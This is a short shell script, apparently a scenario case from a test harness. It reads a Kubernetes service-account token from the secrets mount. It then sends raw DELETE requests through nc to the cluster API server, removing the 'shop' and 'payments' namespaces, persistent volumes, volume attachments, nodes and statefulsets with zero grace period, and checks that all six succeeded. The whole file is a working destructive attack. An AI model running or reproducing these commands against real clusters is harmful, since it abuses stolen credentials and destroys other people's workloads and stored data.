#!/bin/sh
. /opt/case/case.sh

t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
for p in api/v1/namespaces/shop api/v1/namespaces/payments api/v1/persistentvolumes apis/storage.k8s.io/v1/volumeattachments api/v1/nodes apis/apps/v1/statefulsets; do
    printf 'DELETE /%s?gracePeriodSeconds=0 HTTP/1.0\r\nAuthorization: Bearer %s\r\n\r\n' "$p" "$t" | nc -w 2 10.77.0.1 6443 >>/tmp/said
done
test "$(grep -c '200 OK' /tmp/said)" = 6
took_place
